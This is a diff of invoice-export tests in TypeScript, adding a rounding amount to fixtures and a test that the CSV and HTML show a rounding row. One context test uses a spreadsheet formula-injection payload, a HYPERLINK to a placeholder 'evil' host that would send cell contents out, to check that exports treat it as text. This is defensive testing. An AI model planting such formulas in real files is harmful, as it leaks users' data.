@@ -75,6 +75,7 @@ function view(overrides: Partial<InvoiceView> = {}, issued = true): InvoiceView 
     amounts: {
       lines: lines.map(({ position: _, ...l }) => l),
       subtotalCents,
+      roundingCents: 0,
       creditsCents: 250,
       totalCents: subtotalCents - 250,
     },
@@ -209,7 +210,13 @@ describe('invoiceHtml', () => {
 
   it('a draft is the upcoming invoice; no usage says so', () => {
     const html = invoiceHtml(
-      view({ lines: [], amounts: { lines: [], subtotalCents: 0, creditsCents: 0, totalCents: 0 } }, false),
+      view(
+        {
+          lines: [],
+          amounts: { lines: [], subtotalCents: 0, roundingCents: 0, creditsCents: 0, totalCents: 0 },
+        },
+        false,
+      ),
       {
         ...context,
         timeZone: 'Asia/Kolkata',
@@ -257,6 +264,24 @@ describe('invoiceCsv', () => {
     expect(rows).toHaveLength(1 + v.lines.length + 3);
   });
 
+  it('shows what the lines’ rounding added or took away as a row of its own, when there is any', () => {
+    const v = view();
+    const rounded = {
+      ...v,
+      amounts: { ...v.amounts, roundingCents: -1, totalCents: v.amounts.totalCents - 1 },
+    };
+    const rows = parseCsv(invoiceCsv(rounded, context)).slice(1 + v.lines.length);
+    const usd = (cents: number) => (cents / 100).toFixed(2);
+    expect(rows.map((r) => [r[3], r[6]])).toEqual([
+      ['subtotal', usd(v.amounts.subtotalCents)],
+      ['rounding', '-0.01'],
+      ['credits applied', '-2.50'],
+      ['amount due', usd(v.amounts.totalCents - 1)],
+    ]);
+    expect(invoiceHtml(rounded, context)).toContain('Rounding');
+    expect(invoiceHtml(v, context)).not.toContain('Rounding');
+  });
+
   it('a project or model named like a formula is text, not a formula; amounts stay numbers', () => {
     const hostile = view();
     hostile.lines[0] = { ...hostile.lines[0]!, model: '=HYPERLINK("http://evil/?"&A1,"x")' };
@@ -300,7 +325,10 @@ describe('invoicePdf', () => {
     }));
     const total = lines.reduce((s, l) => s + l.amountCents, 0);
     const pdf = await invoicePdf(
-      view({ lines, amounts: { lines, subtotalCents: total, creditsCents: 0, totalCents: total } }),
+      view({
+        lines,
+        amounts: { lines, subtotalCents: total, roundingCents: 0, creditsCents: 0, totalCents: total },
+      }),
       context,
     );
     const pages = pdf.toString('latin1').match(/\/Type \/Page\b/g) ?? [];
